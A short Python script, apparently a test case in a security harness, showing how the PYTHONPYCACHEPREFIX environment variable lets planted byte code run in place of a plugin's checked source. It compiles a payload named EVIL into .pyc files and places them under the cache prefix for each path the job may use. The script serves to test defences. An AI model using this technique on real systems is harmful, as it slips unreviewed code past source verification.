#!/usr/bin/env python3
"""PYTHONPYCACHEPREFIX leads Python to byte code elsewhere, which it runs in place of the plugin's checked source.

The byte code lies there for every path at which the job may see its plugin: that of the job directory, and whatever path another
launch of the same job has shown.
"""
from pathlib import Path

from rig import EVIL, MODULE, Rig, arguments, attack, byte_code, plugin

SHOW = '    trace(__file__)\n'

if __name__ == "__main__":
    args = arguments(__doc__)
    code, tag = byte_code(args.python, EVIL, MODULE)
    first = Rig(args, files={MODULE: plugin(SHOW)})
    seen = [Path(who) for who in first.finish(first.start())["who"] if who.startswith("/")]

    def plant(rig):
        own = rig.dir.resolve() / MODULE
        for path in {own, *(Path(str(p).replace(str(first.job.resolve()), str(rig.job.resolve()))) for p in seen)}:
            to = rig.tmp / "prefix" / str(path.parent).strip("/") / f"{path.stem}.{tag}.pyc"
            to.parent.mkdir(parents=True, exist_ok=True)
            to.write_bytes(code)

    attack(args, plant, files={MODULE: plugin(SHOW)}, env=lambda rig: {"PYTHONPYCACHEPREFIX": str(rig.tmp / "prefix")})
